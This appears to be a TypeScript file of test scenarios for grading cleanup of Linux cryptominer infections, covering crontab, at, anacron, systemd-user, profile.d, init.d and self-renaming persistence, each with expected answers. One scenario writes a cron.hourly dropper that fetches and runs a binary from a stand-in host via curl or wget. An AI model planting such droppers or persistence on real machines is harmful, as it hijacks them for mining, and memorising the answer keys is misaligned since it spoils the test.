import type { Scenario } from './scenario.ts';
import { addCron, dropHost, minerWords } from './words.ts';

const root = (
  path: string,
  more: {
    readonly files?: Scenario['files'];
    readonly before?: string;
    readonly cron?: readonly string[];
    readonly delete?: readonly string[];
    readonly named?: readonly string[];
    readonly bystanders?: readonly string[];
  },
): Omit<Scenario, 'name' | 'report'> => ({
  images: [path],
  ...(more.files === undefined ? {} : { files: more.files }),
  start: `${more.before ?? ':'}\nrun ${path}`,
  runs: [path],
  truth: {
    verdict: ['confirmed'],
    ticked: { kill: [path], delete: [path, ...(more.delete ?? [])], cron: more.cron ?? [] },
    ...(more.named === undefined ? {} : { named: more.named }),
    bystanders: more.bystanders ?? [],
    ending: more.named === undefined ? 'cleaned' : 'partially-cleaned',
  },
});

/** Places from which a miner starts again, one each; what no step takes is named and keeps the ending from `cleaned`. */
export const starters: readonly Scenario[] = [
  {
    name: 'a crontab that sets variables for its lines',
    report: 'Lines like `M=/var/tmp/.M` above the entries: only with them does an entry say what it starts.',
    ...root('/var/tmp/.M/udisksd', {
      before: addCron('root', [
        'M=/var/tmp/.M',
        '*/5 * * * * $M/udisksd >/dev/null 2>&1',
        '9 9 * * * /usr/bin/df -h >/dev/null',
      ]),
      cron: ['*/5 * * * * $M/udisksd >/dev/null 2>&1'],
    }),
  },
  {
    name: 'a job of at',
    report: 'A job in atjobs puts itself there again; its text has the environment before the command.',
    ...root('/usr/lib/.dbus/dbus-broker', {
      files: {
        '/var/spool/cron/atjobs/a0000201f0a0b0': {
          text: `#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\nSHELL=/bin/sh; export SHELL\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/usr/lib/.dbus/dbus-broker >/dev/null 2>&1\n`,
          mode: 0o700,
        },
      },
      cron: ['/var/spool/cron/atjobs/a0000201f0a0b0'],
    }),
  },
  {
    name: 'a dropper in cron.hourly',
    report: 'Sysrv and others: a script of the periodic folders downloads, marks and starts.',
    ...root('/var/lib/.net/netns', {
      files: {
        '/etc/cron.hourly/oanacroner': `#!/bin/sh
pgrep -x netns >/dev/null && exit 0
( curl -fsSL http://${dropHost}/netns -o /var/lib/.net/netns || wget -q -O /var/lib/.net/netns http://${dropHost}/netns ) && chmod 755 /var/lib/.net/netns
/var/lib/.net/netns >/dev/null 2>&1 &
`,
      },
      cron: ['/etc/cron.hourly/oanacroner'],
    }),
  },
  {
    name: 'a line of anacron',
    report: 'Laptops and virtual machines that sleep: /etc/anacrontab, beside the distribution’s own lines.',
    ...root('/opt/.anac/upd', {
      before: `printf '%s\\n' 'SHELL=/bin/sh' '1 5 cron.daily run-parts --report /etc/cron.daily' '1 7 upd.daily /opt/.anac/upd >/dev/null 2>&1' >/etc/anacrontab`,
      cron: ['1 7 upd.daily /opt/.anac/upd >/dev/null 2>&1'],
    }),
  },
  {
    name: 'a unit of an account’s own systemd',
    report: '~/.config/systemd/user with a link that starts it at each login; no root was needed.',
    accounts: ['app'],
    images: [{ path: '/home/app/.local/share/gvfsd', owner: 'app' }],
    files: {
      '/home/app/.config/systemd/user/gvfs.service': {
        text: '[Unit]\nDescription=Virtual filesystem service\n[Service]\nExecStart=%h/.local/share/gvfsd\nRestart=always\n[Install]\nWantedBy=default.target\n',
        owner: 'app',
      },
    },
    start: `mkdir -p /home/app/.config/systemd/user/default.target.wants
ln -s ../gvfs.service /home/app/.config/systemd/user/default.target.wants/gvfs.service
chown -R app /home/app/.config
as app /home/app/.local/share/gvfsd`,
    runs: ['/home/app/.local/share/gvfsd'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/home/app/.local/share/gvfsd'],
        delete: ['/home/app/.local/share/gvfsd'],
        cron: [],
      },
      named: ['/home/app/.config/systemd/user/gvfs.service'],
      bystanders: ['/home/app/.config/systemd/user/gvfs.service'],
      ending: 'partially-cleaned',
    },
  },
  {
    name: 'a script of profile.d',
    report: 'Each login of anybody starts it: a file among the distribution’s own.',
    ...root('/dev/shm/.lang/locale', {
      files: {
        '/etc/profile.d/locale-gen.sh':
          'if [ -z "$LC_CHECKED" ]; then\n  export LC_CHECKED=1\n  (nohup /dev/shm/.lang/locale >/dev/null 2>&1 &)\nfi\n',
        '/etc/profile.d/proxy.sh': 'export https_proxy=http://proxy.corp.example:3128\n',
      },
      named: ['/etc/profile.d/locale-gen.sh'],
      bystanders: ['/etc/profile.d/locale-gen.sh', '/etc/profile.d/proxy.sh'],
    }),
  },
  {
    name: 'an init script with its links',
    report: 'Older families: /etc/init.d with the header of LSB, started in each run level.',
    ...root('/usr/sbin/.acpid', {
      files: {
        '/etc/init.d/acpidd': `#!/bin/sh
### BEGIN INIT INFO
# Provides: acpidd
# Required-Start: $local_fs
# Default-Start: 2 3 4 5
# Default-Stop: 0 1 6
### END INIT INFO
case "$1" in
start) /usr/sbin/.acpid >/dev/null 2>&1 & ;;
esac
`,
      },
      before: 'mkdir -p /etc/rc2.d; ln -s ../init.d/acpidd /etc/rc2.d/S01acpidd',
      named: ['/etc/init.d/acpidd'],
      bystanders: ['/etc/init.d/acpidd'],
    }),
  },
  {
    name: 'a miner that takes another name at each start',
    report: 'The core waits under a plain name; each start is a fresh copy, and the old one is removed.',
    images: ['/usr/lib/.core/libcrypt'],
    files: {
      '/usr/lib/.core/rotate': `#!/bin/bash
n=0
while :; do
  n=$((n + 1))
  rm -f /tmp/.m$((n - 1))
  cp /usr/lib/.core/libcrypt /tmp/.m$n
  /tmp/.m$n ${minerWords} >/dev/null 2>&1
  sleep 1
done
`,
    },
    start: `${addCron('root', ['@reboot /usr/lib/.core/rotate >/dev/null 2>&1'])}
run /usr/lib/.core/rotate
until pkill -9 -f '^/tmp/[.]m1 '; do sleep 0.02; done`,
    runs: ['/tmp/.m2', '/usr/lib/.core/rotate'],
    unsolved:
      'What is copied to a name that the script counts, and started by it, is not followed: the script is held as untold.',
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/usr/lib/.core/rotate', '/tmp/.m2'],
        delete: ['/usr/lib/.core/rotate', '/usr/lib/.core/libcrypt', '/tmp/.m2'],
        cron: ['@reboot /usr/lib/.core/rotate >/dev/null 2>&1'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a pair of static programs that watch each other',
    report:
      'Two images with the same bytes under two names: neither script nor argument tells guard from miner.',
    images: ['/usr/bin/.sshd-agent', '/usr/bin/.sshd-agentd'],
    start: `${addCron('root', ['*/2 * * * * /usr/bin/.sshd-agent', '*/3 * * * * pidof .sshd-agentd || /usr/bin/.sshd-agentd'])}
run /usr/bin/.sshd-agent
run /usr/bin/.sshd-agentd`,
    runs: ['/usr/bin/.sshd-agent', '/usr/bin/.sshd-agentd'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/usr/bin/.sshd-agent', '/usr/bin/.sshd-agentd'],
        delete: ['/usr/bin/.sshd-agent', '/usr/bin/.sshd-agentd'],
        cron: ['*/2 * * * * /usr/bin/.sshd-agent', '*/3 * * * * pidof .sshd-agentd || /usr/bin/.sshd-agentd'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
];
